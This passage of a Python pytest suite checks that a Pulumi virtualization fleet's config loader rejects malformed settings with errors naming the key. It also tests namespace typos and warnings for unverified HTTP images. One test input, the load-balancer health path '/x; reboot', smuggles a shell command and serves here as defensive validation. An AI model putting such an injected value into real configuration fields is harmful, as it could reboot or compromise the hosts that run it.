    ("roles-openvz-docker", _set(KVM1, "roles", ["kvm", "openvz"]), "virtfleet:hosts[0].roles", "vzkernel"),
    ("roles-kvm-virtualbox", _set(KVM1, "roles", ["kvm", "virtualbox"]), "virtfleet:hosts[0].roles", "VT-x"),
    ("roles-empty", _set(KVM1, "roles", []), "virtfleet:hosts[0].roles", "at least 1"),
    ("role-unknown", _set(KVM1, "roles", ["kvm", "vmware"]), "virtfleet:hosts[0].roles[1]", "kvm"),
    ("os-family", _set(KVM1, "osFamily", "el8"), "virtfleet:hosts[0].osFamily", "el7"),
    ("xen-on-el9", _set(lambda v: host(v, "xen1"), "osFamily", "el9"), "virtfleet:hosts[1].osFamily", "Xen4CentOS"),
    ("selinux-mode", _set(KVM1, "selinux", "off"), "virtfleet:hosts[0].selinux", "enforcing"),
    ("host-key-malformed", _set(KVM1, "hostKey", "not-a-key"), "virtfleet:hosts[0].hostKey", "ssh-keyscan"),
    (
        "host-address-duplicate",
        _set(lambda v: host(v, "xen1"), "address", "10.0.0.2"),
        "virtfleet:hosts[1].address",
        "the address 10.0.0.2 is already used at virtfleet:hosts[0].address",
    ),
    ("capacity-memory", _set(CAP, "memoryMiB", 4096), "virtfleet:hosts[0].capacity.memoryMiB", "ask for"),
    ("capacity-cpu", _set(CAP, "cpuThreads", 1), "virtfleet:hosts[0].capacity.cpuThreads", "ask for"),
    ("capacity-disk", _set(CAP, "diskGiB", 5), "virtfleet:hosts[0].capacity.diskGiB", "ask for"),
    (
        "overcommit-below-one",
        _set(CAP, "cpuOvercommit", 0.5),
        "virtfleet:hosts[0].capacity.cpuOvercommit",
        "greater",
    ),
    (
        "bridge-gateway-outside",
        _set(BRIDGE, "gateway", "192.168.1.1"),
        "virtfleet:hosts[0].bridges[0].gateway",
        "outside",
    ),
    (
        "bridge-name-too-long",
        _set(BRIDGE, "name", "a-very-long-bridge-name"),
        "virtfleet:hosts[0].bridges[0].name",
        "pattern",
    ),
    (
        "bridge-prefix-too-long",
        _set(BRIDGE, "address", "10.0.0.2/31"),
        "virtfleet:hosts[0].bridges[0].address",
        "/30",
    ),
    (
        "bridge-same-as-interface",
        _set(BRIDGE, "interface", "brid0"),
        "virtfleet:hosts[0].bridges[0].interface",
        "differ",
    ),
    ("lb-node-unknown", _set(_lb, "node", "nowhere"), "virtfleet:loadBalancer.node", "no host or guest"),
    (
        "lb-backend-unknown",
        _set(_lb, "backends", ["webserver1", "ghost"]),
        "virtfleet:loadBalancer.backends[1]",
        "no guest",
    ),
    (
        "lb-backend-duplicate",
        _set(_lb, "backends", ["webserver1", "webserver1"]),
        "virtfleet:loadBalancer.backends[1]",
        "already used",
    ),
    (
        "lb-backup-is-backend",
        _set(_lb, "backups", ["webserver1"]),
        "virtfleet:loadBalancer.backups[0]",
        "either backend or backup",
    ),
    ("lb-backends-empty", _set(_lb, "backends", []), "virtfleet:loadBalancer.backends", "at least 1"),
    (
        "lb-frontend-foreign",
        _set(_lb, "frontend", {"address": "10.0.0.99", "port": 80}),
        "virtfleet:loadBalancer.frontend.address",
        "is not an address of haproxy (10.0.0.10, 127.0.0.1 or 0.0.0.0)",
    ),
    (
        "lb-stats-port-clash",
        _set(_lb, "stats", {"bind": {"address": "10.0.0.10", "port": 80}}),
        "virtfleet:loadBalancer.stats.bind.port",
        "the port 80/tcp is already used at virtfleet:loadBalancer.frontend.port",
    ),
    ("lb-balance", _set(_lb, "balance", "random-ish"), "virtfleet:loadBalancer.balance", "roundrobin"),
    (
        "lb-health-path",
        _set(_lb, "healthCheck", {"path": "/x; reboot"}),
        "virtfleet:loadBalancer.healthCheck.path",
        "pattern",
    ),
    (
        "lb-onto-itself",
        _set(_lb, "backends", ["webserver1", "haproxy"]),
        "virtfleet:loadBalancer.backends[1]",
        "itself",
    ),
    (
        "openvz-family-vs-template",
        lambda v: guest(v, "webserver3").update(osFamily="el9"),
        "virtfleet:guests[5].osFamily",
        "centos-7-x86_64-minimal is el7",
    ),
    (
        "lb-node-el7",
        lambda v: guest(v, "haproxy").update(osFamily="el7"),
        "virtfleet:loadBalancer.node",
        "HAProxy 2.4",
    ),
    (
        "lb-log-transport",
        _set(_lb, "logTransport", "relp"),
        "virtfleet:loadBalancer.logTransport",
        "udp",
    ),
    (
        "stats-password-plaintext",
        lambda v: v.update(statsPassword="hunter2"),
        "virtfleet:statsPassword",
        "plain text",
    ),
    ("top-level-typo", lambda v: v.update(gusts=[]), "virtfleet:gusts", "unknown key"),
    ("hosts-missing", lambda v: v.pop("hosts"), "virtfleet:hosts", "at least one host"),
    ("guests-not-a-list", lambda v: v.update(guests={"a": 1}), "virtfleet:guests", "must be a list"),
    ("domain-invalid", lambda v: v.update(domain="Bad Domain!"), "virtfleet:domain", "DNS domain"),
    *HARDENING_CASES,
    *RULE_CASES,
    *PAIR_CASES,
]


@pytest.mark.parametrize(("mutate", "path", "word"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_malformed_stack_names_the_key(prod_values, mutate, path, word):
    mutate(prod_values)
    with pytest.raises(FleetConfigError) as caught:
        load_fleet(prod_values, {"sshPrivateKey"})
    matching = [p for p in caught.value.problems if p.path == path]
    assert matching, f"expected a problem at {path}, got:\n{caught.value}"
    # the whole report line: the message and the value it names ("(got 'el9')")
    assert any(word.lower() in str(p).lower() for p in matching), str(caught.value)


def test_corpus_is_large_enough():
    assert len(CASES) >= 30 + 50
    assert len({c[0] for c in CASES}) == len(CASES)


@pytest.mark.parametrize(
    ("mutate", "path", "word"), [c[1:] for c in HARDENING_CASES], ids=[c[0] for c in HARDENING_CASES]
)
def test_plan_of_a_malformed_stack_writes_nothing(prod_values, mutate, path, word, tmp_path, capsys):
    """Through ``make plan``'s entry point: exit 1, the key named, and no file rendered at all."""
    mutate(prod_values)
    stack = tmp_path / "Pulumi.bad.yaml"
    stack.write_text(yaml.safe_dump({"config": {f"virtfleet:{k}": v for k, v in prod_values.items()}}))
    build = tmp_path / "build"
    assert plan_main(["--stack", "bad", "--file", str(stack), "--build", str(build)]) == 1
    assert path in capsys.readouterr().err
    assert not build.exists()


def test_misspelled_namespace_is_an_error_naming_the_key(prod_values):
    with pytest.raises(FleetConfigError) as caught:
        load_fleet(prod_values, {"sshPrivateKey"}, ["virtfeet:domain", "VirtFleet:guests", "libvirt:uri", "aws:region"])
    problems = {p.path: p.message for p in caught.value.problems}
    assert set(problems) == {"virtfeet:domain", "VirtFleet:guests"}, problems
    assert "virtfleet:domain" in problems["virtfeet:domain"] and "misspelling" in problems["virtfeet:domain"]


def test_misspelled_namespace_in_a_stack_file_stops_the_plan(prod_values, tmp_path, capsys):
    document = {f"virtfleet:{k}": v for k, v in prod_values.items()}
    document["virtflet:domain"] = "other.example"
    stack = tmp_path / "Pulumi.bad.yaml"
    stack.write_text(yaml.safe_dump({"config": document}))
    assert plan_main(["--stack", "bad", "--file", str(stack), "--build", str(tmp_path / "build")]) == 1
    assert "virtflet:domain: namespace 'virtflet' looks like a misspelling" in capsys.readouterr().err


def test_a_broken_host_is_reported_once_not_by_every_reference(prod_values):
    """kvm1 fails on its own; its three guests and the balancer (on one of them) add one line, not four."""
    host(prod_values, "kvm1")["address"] = "root@10.0.0.2"
    with pytest.raises(FleetConfigError) as caught:
        load_fleet(prod_values, {"sshPrivateKey"})
    messages = [str(p) for p in caught.value.problems]
    assert messages[0].startswith("virtfleet:hosts[0].address:"), messages
    assert [m for m in messages if "kvm1 is invalid, see above" in m] == [
        "virtfleet:guests[0].host: host kvm1 is invalid, see above (got 'kvm1')"
    ]
    assert not [m for m in messages if "no such host" in m or "names no" in m], messages


def test_a_broken_guest_is_reported_once_by_the_balancer(prod_values):
    guest(prod_values, "webserver1")["vcpus"] = 0
    guest(prod_values, "haproxy")["memoryMiB"] = 1
    with pytest.raises(FleetConfigError) as caught:
        load_fleet(prod_values, {"sshPrivateKey"})
    paths = caught.value.paths()
    assert "virtfleet:guests[1].vcpus" in paths and "virtfleet:guests[0].memoryMiB" in paths
    assert "virtfleet:loadBalancer.node" in paths and "virtfleet:loadBalancer.backends[0]" in paths
    assert not [p for p in caught.value.problems if "names no" in p.message], str(caught.value)
    assert len(paths) == 4, str(caught.value)


def test_quoted_false_reads_as_false_in_the_plan_and_the_model(prod_values, tmp_path, capsys):
    """``useAgent: "false"`` (as the Pulumi CLI hands a value over): no agent in both readings, so the
    plan plans the private key with a placeholder instead of failing for a missing key."""
    prod_values["ssh"]["useAgent"] = "false"
    stack = tmp_path / "Pulumi.quoted.yaml"
    stack.write_text(yaml.safe_dump({"config": {f"virtfleet:{k}": v for k, v in prod_values.items()}}))
    config, fleet = load_stack("quoted", stack)
    assert fleet.ssh.use_agent is False
    assert config.placeholders == ["sshPrivateKey"]
    prod_values["ssh"]["useAgent"] = "true"
    prod_values["ssh"]["authorizedKeys"] = [ED25519]  # the guests the program logs in to need one
    stack.write_text(yaml.safe_dump({"config": {f"virtfleet:{k}": v for k, v in prod_values.items()}}))
    config, fleet = load_stack("quoted", stack)
    assert fleet.ssh.use_agent is True and config.placeholders == []


def test_plain_http_image_without_checksum_warns():
    from components.model.rules import image_warnings

    _config, fleet = load_stack("prod")
    assert image_warnings(fleet) == []
    web1 = fleet.guest("webserver1")
    url = "http://mirror.example/el9.qcow2"
    unverified = web1.model_copy(update={"image": web1.model_validate({**_WEB1_RAW, "image": {"url": url}}).image})
    fleet = fleet.model_copy(update={"guests": (fleet.guests[0], unverified, *fleet.guests[2:])})
    assert image_warnings(fleet) == [
        f"virtfleet:guests[1].image.url: {url} is fetched over plain HTTP without a sha256 checksum; use https "
        "or set virtfleet:guests[1].image.sha256 (a checksum is only possible for kvm images)"
    ]
    pinned = unverified.model_copy(update={"image": unverified.image.model_copy(update={"sha256": "0" * 64})})
    assert image_warnings(fleet.model_copy(update={"guests": (fleet.guests[0], pinned, *fleet.guests[2:])})) == []


_WEB1_RAW = {"name": "webserver1", "type": "kvm", "host": "kvm1", "network": {"bridge": "brid0", "ip": "10.0.0.11"}}


def _program_fleet(values: dict, tmp_path, extra: dict | None = None):
    """The program's own reading (components.stack.config, from the Pulumi runtime's config), fed
    exactly as run_program feeds it: the stack file's values as the CLI hands them, strings."""
    from pulumi.runtime import set_all_config

    from components.stack.config import load_stack_fleet
    from plan.run import NAMESPACE, read_stack_file

    stack = tmp_path / "Pulumi.program.yaml"
    stack.write_text(yaml.safe_dump({"config": {f"virtfleet:{k}": v for k, v in values.items()} | (extra or {})}))
    config = read_stack_file(stack, "program")
    set_all_config(config.pulumi_config(), sorted(f"{NAMESPACE}:{k}" for k in config.secret_keys))
    return load_stack_fleet()


def test_the_program_reads_config_through_the_same_model(prod_values, tmp_path):
    prod_values["ssh"]["useAgent"] = "false"
    assert _program_fleet(prod_values, tmp_path).ssh.use_agent is False
    with pytest.raises(FleetConfigError) as caught:
        _program_fleet(prod_values, tmp_path, {"virtfleat:domain": "x.example", "libvirt:uri": "qemu:///system"})
    assert caught.value.paths() == ["virtfleat:domain"]
    prod_values["colour"] = "blue"  # an unknown key of ours: refused by the program as by the plan
    with pytest.raises(FleetConfigError) as caught:
        _program_fleet(prod_values, tmp_path)
    assert caught.value.paths() == ["virtfleet:colour"]


def test_plain_http_disk_images_of_other_types_warn_at_their_image_key(prod_values):
    """VirtualBox and Xen images: the warning names the guest's image key (VirtualBox's is a plain URL,
    so the key is image itself); https, or a KVM/Xen image with a sha256, does not warn."""
    from components.model.rules import image_warnings

    guest(prod_values, "centos7vm1")["image"] = "http://mirror.example/c7.vdi"
    guest(prod_values, "webserver2")["image"] = {"url": "http://mirror.example/el9.qcow2"}
    warnings = image_warnings(load_fleet(prod_values, {"sshPrivateKey"}))
    assert [w.split(":", 2)[:2] for w in warnings] == [
        ["virtfleet", "guests[3].image.url"],
        ["virtfleet", "guests[6].image"],
    ]
    assert warnings[1].startswith("virtfleet:guests[6].image: http://mirror.example/c7.vdi is fetched over plain HTTP")
    guest(prod_values, "centos7vm1")["image"] = "https://mirror.example/c7.vdi"
    guest(prod_values, "webserver2")["image"]["sha256"] = "0" * 64
    assert image_warnings(load_fleet(prod_values, {"sshPrivateKey"})) == []
